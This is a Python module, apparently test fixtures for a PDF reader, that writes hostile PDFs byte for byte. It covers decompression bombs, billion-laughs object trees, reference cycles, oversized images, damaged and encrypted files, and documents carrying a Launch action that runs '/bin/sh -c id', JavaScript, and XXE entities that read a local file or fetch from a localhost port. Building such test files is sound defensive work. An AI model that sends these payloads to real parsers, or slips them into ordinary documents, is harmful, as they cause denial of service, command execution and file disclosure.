"""PDF files that are broken, or made to cost their reader dear: written object by object, always the same bytes."""

from __future__ import annotations

import base64
import io
import random
import zlib
from collections.abc import Callable, Mapping
from functools import cache

import pikepdf

MEGA = 1 << 20


def raw(objects: Mapping[int, bytes], trailer: bytes = b"", root: int = 1, end: bytes = b"") -> bytes:
    """A file of those objects (number to body), with a right table and trailer."""
    out, at = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    for n, body in sorted(objects.items()):
        at[n] = len(out)
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    size, table = max(objects) + 1, len(out)
    out += b"xref\n0 %d\n" % size
    for n in range(size):
        out += b"%010d 00000 n \n" % at[n] if n in at else b"0000000000 65535 f \n"
    out += b"trailer\n<</Size %d/Root %d 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, table)
    return bytes(out) + end


def stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n" % (head, len(data)) + data + b"\nendstream"


def flate(data: bytes, head: bytes = b"") -> bytes:
    return stream(zlib.compress(data, 9), head + b"/Filter/FlateDecode")


_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_TEXT = b"BT /F1 14 Tf 72 720 Td (Minutes of the meeting) Tj ET\n"


def page(
    content: bytes, resources: bytes = b"", more: bytes = b"", others: Mapping[int, bytes] | None = None, **how: bytes
) -> bytes:
    """One page (object 3) of that content (object 4, written as it is); fonts have /F1. ``others``: from 6 on."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % how.get("catalog", b""),
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>%s>>%s>>"
        % (resources, more),
        4: content,
        5: _FONT,
    }
    return raw(objects | dict(others or {}), how.get("trailer", b""))


@cache
def zeros(count: int, value: bytes = b"\0") -> bytes:
    """``count`` times one byte, as zlib's stream of it; made in pieces."""
    pack, block, out = zlib.compressobj(9), value * MEGA, bytearray()
    for _ in range(count // MEGA):
        out += pack.compress(block)
    return bytes(out + pack.compress(value * (count % MEGA)) + pack.flush())


def deep(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


def picture(w: int, h: int, data: bytes, how: bytes) -> bytes:
    """A page that is one picture, the data coded as ``how`` says."""
    image = stream(data, b"/Type/XObject/Subtype/Image/Width %d/Height %d%s" % (w, h, how))
    return page(stream(b"q 595 0 0 842 0 0 cm /Im Do Q"), b"/XObject<</Im 6 0 R>>", others={6: image})


GREY = b"/ColorSpace/DeviceGray/BitsPerComponent 8"
BIT = b"/ColorSpace/DeviceGray/BitsPerComponent 1"


# ------------------------------------------------------------------------------------------------------ bombs
def content_bomb() -> bytes:
    return page(stream(zeros(4096 * MEGA, b" "), b"/Filter/FlateDecode"))


def content_deep() -> bytes:
    """Flate twenty deep; the innermost are 2 GB of instructions."""
    chain = b"/Filter[%s]" % (b"/FlateDecode" * 20)
    return page(stream(deep(zeros(2048 * MEGA, b"\n"), 19), chain))


def content_chain() -> bytes:
    """Run lengths within ASCII85 within Flate, each packed again."""
    runs = bytes((129, 0x20)) * (2 * MEGA)  # 256 MB of blanks
    return page(
        stream(zlib.compress(base64.a85encode(runs) + b"~>", 9), b"/Filter[/FlateDecode/ASCII85Decode/RunLengthDecode]")
    )


def lzw(length: int) -> bytes:
    """LZW of ``length`` (at least) blanks: codes of growing runs (PDF 32000-1, 7.4.4), the table cleared when full."""
    bits, width, value, made = 0, 9, 0, 0
    out = bytearray()

    def put(code: int) -> None:
        nonlocal bits, value
        value, bits = value << width | code, bits + width
        while bits >= 8:
            bits -= 8
            out.append(value >> bits & 255)
        value &= (1 << bits) - 1

    while made < length:
        put(256)
        width = 9
        put(0x20)
        made, run = made + 1, 1
        for code in range(258, 4094):
            width = 9 if code < 511 else 10 if code < 1023 else 11 if code < 2047 else 12
            put(code)
            run += 1
            made += run
            if made >= length:
                break
    put(257)
    out.append(value << (8 - bits) & 255)
    return bytes(out)


def content_lzw() -> bytes:
    return page(stream(lzw(512 * MEGA), b"/Filter/LZWDecode"))


def predictor_bomb() -> bytes:
    parms = b"/DecodeParms<</Predictor 15/Columns 2147483647/Colors 2147483647/BitsPerComponent 16>>"
    return page(stream(zeros(64 * MEGA), b"/Filter/FlateDecode" + parms))


def object_stream_bomb() -> bytes:
    """The catalogue is in an object stream that unpacks to 3 GB."""
    inner = b"1 0 2 40 "
    body = b"<</Type/Catalog/Pages 2 0 R>>".ljust(40) + b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    pack = zlib.compressobj(9)
    data = pack.compress(inner + body)
    block = b" " * MEGA
    for _ in range(3072):
        data += pack.compress(block)
    data += pack.flush()
    return with_xref_stream(
        {
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 5 0 R>>",
            4: stream(data, b"/Type/ObjStm/N 2/First %d/Filter/FlateDecode" % len(inner)),
            5: stream(b"0 0 m 100 100 l S"),
        },
        {1: (4, 0), 2: (4, 1)},
    )


def with_xref_stream(
    objects: Mapping[int, bytes], packed: Mapping[int, tuple[int, int]], size: int = 0, w: bytes = b"1 4 2"
) -> bytes:
    out, rows = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {0: (0, 0, 65535)}
    for n, body in sorted(objects.items()):
        rows[n] = (1, len(out), 0)
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    rows |= {n: (2, holder, index) for n, (holder, index) in packed.items()}
    last = max(rows) + 1
    rows[last] = (1, len(out), 0)
    table = b"".join(
        a.to_bytes(1, "big") + b.to_bytes(4, "big") + c.to_bytes(2, "big") for _, (a, b, c) in sorted(rows.items())
    )
    start = len(out)
    head = b"/Type/XRef/Size %d/W[%s]/Root 1 0 R/Filter/FlateDecode" % (size or last + 1, w)
    out += b"%d 0 obj\n" % last + stream(zlib.compress(table, 9), head) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def _plain_objects() -> dict[int, bytes]:
    return {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        4: stream(b"0 0 m 100 100 l S"),
    }


def xref_size() -> bytes:
    return with_xref_stream(_plain_objects(), {}, size=2_147_483_647, w=b"1 4 2")


def xref_widths() -> bytes:
    return with_xref_stream(_plain_objects(), {}, w=b"2147483647 2147483647 2147483647")


def xref_bomb() -> bytes:
    """A table of references that unpacks to 2 GB: a hundred million objects."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    for n, body in sorted(_plain_objects().items()):
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    start = len(out)
    head = b"/Type/XRef/Size 300000000/W[1 4 2]/Root 1 0 R/Filter/FlateDecode"
    out += b"9 0 obj\n" + stream(zeros(2048 * MEGA), head) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def picture_huge() -> bytes:
    return picture(60_000, 60_000, zeros(64 * MEGA), GREY + b"/Filter/FlateDecode")


def picture_many_bits() -> bytes:
    """200 million pixels of four inks of 16 bits: within the limit of pixels, 1.6 GB as they stand."""
    return picture(
        14_000, 14_000, zeros(14_000 * 14_000 * 8), b"/ColorSpace/DeviceCMYK/BitsPerComponent 16/Filter/FlateDecode"
    )


def mask_huge() -> bytes:
    image = stream(
        zlib.compress(b"\x80" * 10000),
        b"/Type/XObject/Subtype/Image/Width 100/Height 100/SMask 7 0 R" + GREY + b"/Filter/FlateDecode",
    )
    mask = stream(
        zeros(3600 * MEGA), b"/Type/XObject/Subtype/Image/Width 60000/Height 60000" + GREY + b"/Filter/FlateDecode"
    )
    return page(stream(b"q 595 0 0 842 0 0 cm /Im Do Q"), b"/XObject<</Im 6 0 R>>", others={6: image, 7: mask})


def mask_cycle() -> bytes:
    """A picture that is the soft mask of its soft mask."""
    body = b"\x80" * 10000
    one = b"/Type/XObject/Subtype/Image/Width 100/Height 100%s/SMask %d 0 R/Filter/FlateDecode"
    return page(
        stream(b"q 595 0 0 842 0 0 cm /Im Do Q"),
        b"/XObject<</Im 6 0 R>>",
        others={6: stream(zlib.compress(body), one % (GREY, 7)), 7: stream(zlib.compress(body), one % (GREY, 6))},
    )


def soft_mask_cycle() -> bytes:
    """A form whose graphics state has a soft mask that is the form itself."""
    form = stream(
        b"/G gs 0 0 100 100 re f",
        b"/Type/XObject/Subtype/Form/BBox[0 0 600 900]/Group<</S/Transparency/CS/DeviceGray>>"
        b"/Resources<</ExtGState<</G 7 0 R>>>>",
    )
    state = b"<</SMask<</S/Luminosity/G 6 0 R>>>>"
    return page(
        stream(b"/G gs /X Do 0 0 300 300 re f"),
        b"/XObject<</X 6 0 R>>/ExtGState<</G 7 0 R>>",
        others={6: form, 7: state},
    )


def pictures_many() -> bytes:
    """One small picture of 100 million pixels, drawn a thousand times."""
    image = stream(
        zeros(100_000_000), b"/Type/XObject/Subtype/Image/Width 10000/Height 10000" + GREY + b"/Filter/FlateDecode"
    )
    content = b"".join(b"q 500 0 0 %d 0 0 cm /Im Do Q\n" % (n % 800 + 1) for n in range(1000))
    return page(stream(content), b"/XObject<</Im 6 0 R>>", others={6: image})


def jbig2(page_w: int, page_h: int, more: bytes = b"") -> bytes:
    """Segments of an embedded stream (ITU-T T.88): a page of that size, what is given, the end of the page."""
    info = page_w.to_bytes(4, "big") + page_h.to_bytes(4, "big") + bytes(8) + b"\x00" + b"\x00\x00"
    return segment(0, 48, info) + more + segment(9, 49, b"")


def segment(number: int, kind: int, data: bytes) -> bytes:
    return number.to_bytes(4, "big") + bytes((kind, 0, 1)) + len(data).to_bytes(4, "big") + data


def jbig2_page() -> bytes:
    return picture(1000, 1000, jbig2(0xFFFFFFF0, 0xFFFFFFF0), BIT + b"/Filter/JBIG2Decode")


def jbig2_large() -> bytes:
    """A page of 65,500 x 65,500 in a picture that says 1000 x 1000, and a region of that size to be decoded."""
    region = (65500).to_bytes(4, "big") * 2 + bytes(8) + b"\x00"
    generic = region + b"\x00" + b"\x03\xff\xfd\xff\x02\xfe\xfe\xfe" + b"\x00" * 64 + b"\xff\xac"
    return picture(1000, 1000, jbig2(65500, 65500, segment(1, 38, generic)), BIT + b"/Filter/JBIG2Decode")


def jbig2_symbols() -> bytes:
    """A dictionary that announces four thousand million symbols."""
    data = b"\x00\x00" + b"\x03\xff\xfd\xff\x02\xfe\xfe\xfe" + b"\xff\xff\xff\xff" * 2 + b"\x00" * 64 + b"\xff\xac"
    return picture(1000, 1000, jbig2(1000, 1000, segment(1, 0, data)), BIT + b"/Filter/JBIG2Decode")


def jpx_in_pdf(data: bytes) -> bytes:
    return picture(1000, 1000, data, b"/Filter/JPXDecode")


def jpeg_in_pdf(data: bytes, w: int = 1000, h: int = 1000) -> bytes:
    return picture(w, h, data, GREY + b"/Filter/DCTDecode")


def profile_bomb() -> bytes:
    """An ICC profile of 2 GB in a file of 2 MB."""
    image = stream(
        zlib.compress(bytes(30000)),
        b"/Type/XObject/Subtype/Image/Width 100/Height 100/ColorSpace[/ICCBased 7 0 R]/BitsPerComponent 8"
        b"/Filter/FlateDecode",
    )
    profile = stream(zeros(2048 * MEGA), b"/N 3/Filter/FlateDecode")
    return page(stream(b"q 595 0 0 842 0 0 cm /Im Do Q"), b"/XObject<</Im 6 0 R>>", others={6: image, 7: profile})


def font_bomb() -> bytes:
    """An embedded font of 2 GB, and a table of characters as large."""
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 32/LastChar 126/FontDescriptor 7 0 R/ToUnicode 8 0 R>>"
    about = b"<</Type/FontDescriptor/FontName/A/Flags 4/FontBBox[0 0 1000 1000]/FontFile2 9 0 R>>"
    return page(
        stream(b"BT /F2 14 Tf 72 720 Td (Minutes) Tj ET"),
        b"/Font<</F2 6 0 R>>",
        others={
            6: font,
            7: about,
            8: stream(zeros(2048 * MEGA, b"\n"), b"/Filter/FlateDecode"),
            9: stream(zeros(2048 * MEGA), b"/Filter/FlateDecode"),
        },
    ).replace(b"/Font<</F1 5 0 R>>", b"", 1)


def form_bomb() -> bytes:
    form = stream(zeros(4096 * MEGA, b" "), b"/Type/XObject/Subtype/Form/BBox[0 0 600 900]/Filter/FlateDecode")
    return page(stream(b"/X Do"), b"/XObject<</X 6 0 R>>", others={6: form})


def metadata_bomb() -> bytes:
    """XMP of 2 GB."""
    return page(
        stream(_TEXT),
        catalog=b"/Metadata 6 0 R",
        others={6: stream(zeros(2048 * MEGA, b"<"), b"/Type/Metadata/Subtype/XML/Filter/FlateDecode")},
    )


# ------------------------------------------------------------------------------------------------------ loops
def laughs() -> bytes:
    """Twenty forms, each of which draws the next ten times: a hundred million million million."""
    others = {
        n: stream(
            b"/X Do " * 10 if n < 25 else b"0 0 1 1 re f",
            b"/Type/XObject/Subtype/Form/BBox[0 0 600 900]/Resources<</XObject<</X %d 0 R>>>>" % (n + 1),
        )
        for n in range(6, 26)
    }
    return page(stream(b"/X Do"), b"/XObject<</X 6 0 R>>", others=others)


def laughs_in_pattern() -> bytes:
    """The same with patterns that are filled with patterns."""
    others = {
        n: stream(
            b"/Pattern cs /P scn 0 0 100 100 re f " * 4 if n < 25 else b"0 0 1 1 re f",
            b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 100 100]/XStep 7/YStep 7"
            b"/Resources<</Pattern<</P %d 0 R>>>>" % (n + 1),
        )
        for n in range(6, 26)
    }
    return page(stream(b"/Pattern cs /P scn 0 0 595 842 re f"), b"/Pattern<</P 6 0 R>>", others=others)


def pattern_fine() -> bytes:
    """A pattern whose step is a millionth of a point over the whole page."""
    pattern = stream(
        b"0 0 1 1 re f",
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.000001/YStep 0.000001"
        b"/Resources<<>>",
    )
    return page(stream(b"/Pattern cs /P scn 0 0 595 842 re f"), b"/Pattern<</P 6 0 R>>", others={6: pattern})


def pattern_cycle() -> bytes:
    pattern = stream(
        b"/Pattern cs /P scn 0 0 50 50 re f",
        b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 100 100]/XStep 100/YStep 100"
        b"/Resources<</Pattern<</P 6 0 R>>>>",
    )
    return page(stream(b"/Pattern cs /P scn 0 0 595 842 re f"), b"/Pattern<</P 6 0 R>>", others={6: pattern})


def form_cycle() -> bytes:
    form = stream(
        b"0 0 9 9 re f /X Do /X Do",
        b"/Type/XObject/Subtype/Form/BBox[0 0 600 900]/Resources<</XObject<</X 6 0 R>>>>",
    )
    return page(stream(b"/X Do"), b"/XObject<</X 6 0 R>>", others={6: form})


def glyph_cycle() -> bytes:
    """A Type 3 font whose glyph is written in the font itself, many times."""
    glyph = stream(b"1000 0 0 0 1000 1000 d1 BT /F3 1 Tf (aaaaaaaaaa) Tj ET 0 0 500 500 re f")
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1000 1000]/FontMatrix[.001 0 0 .001 0 0]/CharProcs<</a 7 0 R>>"
        b"/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[1000]/Resources<</Font<</F3 6 0 R>>>>>>"
    )
    return page(
        stream(b"BT /F3 20 Tf 50 500 Td (aaaaaaaaaaaaaaaaaaaa) Tj ET"),
        b"/Font<</F3 6 0 R>>",
        others={6: font, 7: glyph},
    ).replace(b"/Font<</F1 5 0 R>>", b"", 1)


def function_cycle() -> bytes:
    function = b"<</FunctionType 3/Domain[0 1]/Functions[7 0 R 7 0 R]/Bounds[.5]/Encode[0 1 0 1]>>"
    shading = b"<</ShadingType 2/ColorSpace/DeviceRGB/Coords[0 0 595 842]/Function 7 0 R>>"
    return page(stream(b"/S sh"), b"/Shading<</S 6 0 R>>", others={6: shading, 7: function})


def function_huge() -> bytes:
    """A table of a function with 2147483647 entries in each of eight directions."""
    function = stream(
        b"\0" * 64,
        b"/FunctionType 0/Domain[%s]/Range[0 1 0 1 0 1]/Size[%s]/BitsPerSample 32" % (b"0 1 " * 8, b"2147483647 " * 8),
    )
    shading = b"<</ShadingType 1/ColorSpace/DeviceRGB/Function 7 0 R>>"
    return page(stream(b"/S sh"), b"/Shading<</S 6 0 R>>", others={6: shading, 7: function})


def colour_cycle() -> bytes:
    return page(
        stream(b"/C cs 0 scn 0 0 300 300 re f"),
        b"/ColorSpace<</C 6 0 R>>",
        others={6: b"[/Indexed 6 0 R 255 7 0 R]", 7: stream(bytes(768))},
    )


def contents_cycle() -> bytes:
    return page(b"[4 0 R 4 0 R [4 0 R] 3 0 R]")


def length_cycle() -> bytes:
    """A stream whose length is the stream."""
    return page(b"<</Length 4 0 R>>\nstream\n0 0 m 100 100 l S\nendstream")


def kids_of_itself() -> bytes:
    return raw({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"})


def kids_ring() -> bytes:
    return raw(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 4 0 R]/Count 1>>",
            4: b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 595 842]>>",
        }
    )


def parent_ring() -> bytes:
    """The page's parent is its child; its size and resources are to be inherited."""
    return raw(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Parent 3 0 R/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/Contents 4 0 R>>",
            4: stream(b"/X Do"),
        }
    )


def tree_deep(levels: int = 100_000) -> bytes:
    objects = {n: b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (n + 1, n - 1) for n in range(3, levels)}
    objects[1], objects[2] = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
    objects[levels] = b"<</Type/Page/MediaBox[0 0 595 842]/Parent %d 0 R>>" % (levels - 1)
    return raw(objects)


def tree_laughs() -> bytes:
    """Twenty levels of the tree, each with ten times the same child: a hundred million million million pages."""
    objects = {n: b"<</Type/Pages/Kids[%s]/Count 1000000>>" % (b"%d 0 R " % (n + 1) * 10) for n in range(2, 22)}
    objects[1], objects[22] = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Page/MediaBox[0 0 595 842]>>"
    return raw(objects)


def count_million() -> bytes:
    return raw(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1000000>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
            4: stream(b"0 0 m 100 100 l S"),
        }
    )


def pages_million() -> bytes:
    """A tree that has the same page two hundred thousand times."""
    return raw(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[%s]/Count 200000>>" % (b"3 0 R " * 200_000),
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
            4: stream(b"0 0 m 100 100 l S"),
        }
    )


def pages_many() -> bytes:
    """A hundred thousand pages of their own."""
    kids = b" ".join(b"%d 0 R" % n for n in range(5, 100_005))
    objects = {n: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>" for n in range(5, 100_005)}
    objects |= {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[%s]/Count 100000>>" % kids,
        4: stream(b"0 0 m 100 100 l S"),
    }
    return raw(objects)


def arrays_deep() -> bytes:
    return page(stream(b"[" * 1_000_000 + b"]" * 1_000_000 + b" TJ"), more=b"/Deep " + b"[" * 200_000 + b"]" * 200_000)


def dictionaries_deep() -> bytes:
    return page(stream(_TEXT), others={6: b"<</A " * 100_000 + b"1" + b">>" * 100_000})


# ------------------------------------------------------------------------------------------------ too much to do
def paths_million() -> bytes:
    rng = random.Random(1)
    lines = (b"%d %d m %d %d l S" % tuple(rng.randrange(842) for _ in range(4)) for _ in range(1_000_000))
    return page(flate(b"\n".join(lines)))


def texts_million() -> bytes:
    rng = random.Random(2)
    lines = (b"1 0 0 1 %d %d Tm (x) Tj" % (rng.randrange(595), rng.randrange(842)) for _ in range(1_000_000))
    return page(flate(b"BT /F1 5 Tf\n" + b"\n".join(lines) + b"\nET"))


def path_long() -> bytes:
    """One path of two million curves, stroked in dashes of a thousandth of a point."""
    rng = random.Random(3)
    curves = b"\n".join(b"%d %d %d %d %d %d c" % tuple(rng.randrange(842) for _ in range(6)) for _ in range(200_000))
    return page(flate(b"[0.001 0.001] 0 d 0.5 w 0 0 m\n" + curves + b" S"))


def save_deep() -> bytes:
    return page(flate(b"q 1 0 0 1 0 0 cm " * 3_000_000))


def inline_pictures() -> bytes:
    return page(
        flate(b"q 9 0 0 9 9 9 cm BI /W 30000 /H 6000 /BPC 8 /CS /G /F /Fl ID " + zeros(180_000_000) + b" EI Q\n")
    )


def page_giant() -> bytes:
    return page(stream(b"0 0 m 100 100 l S"), more=b"/UserUnit 75000").replace(b"[0 0 595 842]", b"[0 0 14400 14400]")


def page_long() -> bytes:
    """A strip of 100,000 x 500 pixels as a page."""
    return (
        picture(500, 100_000, zeros(50_000_000, b"\xff"), GREY + b"/Filter/FlateDecode")
        .replace(b"[0 0 595 842]", b"[0 0 72 14400]")
        .replace(b"595 0 0 842", b"72 0 0 14400")
    )


def page_infinite() -> bytes:
    return page(stream(_TEXT)).replace(b"[0 0 595 842]", b"[0 0 1e38 1e38]")


# --------------------------------------------------------------------------------------------------- damaged
def plain(count: int = 1) -> bytes:
    """A sound file of ``count`` pages of print."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(pikepdf.Object.parse(_FONT))
    for n in range(count):
        text = b"BT /F1 14 Tf 72 %d Td (Minutes of the meeting, page %d) Tj ET" % (720 - n, n + 1)
        body = pikepdf.Dictionary(
            Type=pikepdf.Name.Page,
            MediaBox=[0, 0, 595, 842],
            Contents=pdf.make_stream(text),
            Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)),
        )
        pdf.pages.append(pikepdf.Page(pdf.make_indirect(body)))
    out = io.BytesIO()
    pdf.save(out, deterministic_id=True, linearize=False)
    return out.getvalue()


def no_pages() -> bytes:
    return raw({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"})


def no_catalogue() -> bytes:
    return raw({2: b"<</Type/Pages/Kids[]/Count 0>>"}, root=77)


def table_wrong() -> bytes:
    """Every offset of the table leads somewhere else, and the objects are cut to pieces."""
    data = plain()
    return data.replace(b" obj", b" obk").replace(b"startxref\n", b"startxref\n9999999999")


def cut(share: float) -> bytes:
    data = plain(5)
    return data[: int(len(data) * share)]


def noise_after_header() -> bytes:
    return b"%PDF-1.4\n" + random.Random(4).randbytes(200_000)


def noise_everywhere(seed: int) -> bytes:
    """A sound file in which one byte in fifty was changed."""
    data, rng = bytearray(plain(5)), random.Random(seed)
    for n in range(20, len(data) - 40, 50):
        data[n] = rng.randrange(256)
    return bytes(data)


def encrypted() -> bytes:
    return _locked(user="secret")


def _locked(user: str) -> bytes:
    with pikepdf.open(io.BytesIO(plain())) as pdf:
        out = io.BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user=user, R=4, aes=True), static_id=True)
    return out.getvalue()


def encrypted_strangely() -> bytes:
    """A handler of a shop's own."""
    locked = b"<</Filter/Shop.DRM/V 9/R 99/O(x)/U(y)/P -1>>"
    return page(stream(_TEXT), trailer=b"/Encrypt 6 0 R/ID[(a)(b)]", others={6: locked})


def picture_missing() -> bytes:
    return page(stream(b"q 595 0 0 842 0 0 cm /Im Do Q"))


def picture_half() -> bytes:
    body = bytes(range(256)) * 4000
    return picture(1000, 1000, zlib.compress(body)[:2000], GREY + b"/Filter/FlateDecode")


# ----------------------------------------------------------------------- odd, yet a scan: read, nothing else happens
def with_actions(port: int) -> bytes:
    """Scripts, programs to be started, forms to be sent, other files to be opened: when it is opened and everywhere."""
    address = b"http://127.0.0.1:%d/" % port
    script = b"<</S/JavaScript/JS(app.launchURL\\('%s'\\))>>" % address
    launch = b"<</S/Launch/F(/bin/sh)/Unix<</F(/bin/sh)/P(-c id)>>/Next %s>>" % script
    away = b"<</S/URI/URI(%s)/Next<</S/GoToR/F<</FS/URL/F(%s)>>/D[0/Fit]/Next<</S/SubmitForm/F(%s)/Next%s>>>>>>" % (
        address, address, address, launch,
    )  # fmt: skip
    return page(
        stream(_TEXT),
        more=b"/AA<</O %s/C %s>>" % (away, launch),
        catalog=b"/OpenAction %s/AA<</WC %s/DP %s>>/Names<</JavaScript<</Names[(a)%s]>>>>"
        % (away, script, launch, script),
    )


def with_outer_streams(port: int, canary: bytes) -> bytes:
    """The page draws a form, and a picture, whose bytes are to be fetched from a file and from the network."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 600 900]"
    there = stream(b"", form + b"/F(%s)" % canary)
    away = stream(b"", form + b"/F<</FS/URL/F(http://127.0.0.1:%d/a)>>" % port)
    return page(stream(_TEXT + b"/X Do /Y Do"), b"/XObject<</X 6 0 R/Y 7 0 R>>", others={6: there, 7: away})


def _packet(address: str, canary: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file://{canary}"><!ENTITY b SYSTEM "{address}">'
        f'<!ENTITY % c SYSTEM "{address}dtd"> %c;]>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/" xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<r:RDF><r:Description xmlns:d="http://purl.org/dc/elements/1.1/"><d:title>&a;&b;</d:title></r:Description>'
        "</r:RDF></x:xmpmeta>"
    ).encode()


def with_outer_entities(port: int, canary: bytes) -> bytes:
    """XMP and a form (XFA) that name files and addresses as entities."""
    packet = _packet(f"http://127.0.0.1:{port}/", canary.decode())
    return page(
        stream(_TEXT),
        catalog=b"/Metadata 6 0 R/AcroForm<</Fields[]/XFA[(template)7 0 R(datasets)7 0 R]>>",
        others={6: stream(packet, b"/Type/Metadata/Subtype/XML"), 7: stream(packet)},
    )


def with_laughing_metadata() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    packet = (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{entities}]>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/">&l11;</x:xmpmeta>'
    ).encode()
    return page(stream(_TEXT), catalog=b"/Metadata 6 0 R", others={6: stream(packet, b"/Type/Metadata/Subtype/XML")})


def signed() -> bytes:
    """A signature over the whole file (of no worth: nobody is asked about it)."""
    field = b"<</Type/Annot/Subtype/Widget/FT/Sig/T(s)/Rect[0 0 0 0]/F 132/V 7 0 R/P 3 0 R>>"
    value = (
        b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 100 200 100]/Contents<%s>>>"
        % (b"00" * 256)
    )
    return page(
        stream(_TEXT),
        more=b"/Annots[6 0 R]",
        catalog=b"/AcroForm<</SigFlags 3/Fields[6 0 R]>>",
        others={6: field, 7: value},
    )


def owner_locked() -> bytes:
    return _locked(user="")


def font_broken() -> bytes:
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/A/FirstChar 32/LastChar 126/FontDescriptor 7 0 R>>"
    about = b"<</Type/FontDescriptor/FontName/A/Flags 4/FontBBox[0 0 1000 1000]/FontFile2 8 0 R>>"
    program = b"\0\1\0\0\xff\xff" + random.Random(5).randbytes(5000)
    return page(
        stream(_TEXT + b"BT /F2 14 Tf 72 620 Td (Minutes) Tj ET"),
        b"/X<<>>",
        others={6: font, 7: about, 8: stream(program)},
    ).replace(b"/F1 5 0 R", b"/F1 5 0 R/F2 6 0 R", 1)


MAKERS: dict[str, Callable[[], bytes]] = {
    "content-bomb": content_bomb,
    "content-deep": content_deep,
    "content-chain": content_chain,
    "content-lzw": content_lzw,
    "predictor-bomb": predictor_bomb,
    "object-stream-bomb": object_stream_bomb,
    "xref-size": xref_size,
    "xref-widths": xref_widths,
    "xref-bomb": xref_bomb,
    "picture-huge": picture_huge,
    "picture-many-bits": picture_many_bits,
    "mask-huge": mask_huge,
    "mask-cycle": mask_cycle,
    "soft-mask-cycle": soft_mask_cycle,
    "pictures-many": pictures_many,
    "jbig2-page": jbig2_page,
    "jbig2-large": jbig2_large,
    "jbig2-symbols": jbig2_symbols,
    "profile-bomb": profile_bomb,
    "font-bomb": font_bomb,
    "form-bomb": form_bomb,
    "metadata-bomb": metadata_bomb,
    "laughs": laughs,
    "laughs-in-pattern": laughs_in_pattern,
    "pattern-fine": pattern_fine,
    "pattern-cycle": pattern_cycle,
    "form-cycle": form_cycle,
    "glyph-cycle": glyph_cycle,
    "function-cycle": function_cycle,
    "function-huge": function_huge,
    "colour-cycle": colour_cycle,
    "contents-cycle": contents_cycle,
    "length-cycle": length_cycle,
    "kids-of-itself": kids_of_itself,
    "kids-ring": kids_ring,
    "parent-ring": parent_ring,
    "tree-deep": tree_deep,
    "tree-laughs": tree_laughs,
    "count-million": count_million,
    "pages-million": pages_million,
    "pages-many": pages_many,
    "arrays-deep": arrays_deep,
    "dictionaries-deep": dictionaries_deep,
    "paths-million": paths_million,
    "texts-million": texts_million,
    "path-long": path_long,
    "save-deep": save_deep,
    "inline-pictures": inline_pictures,
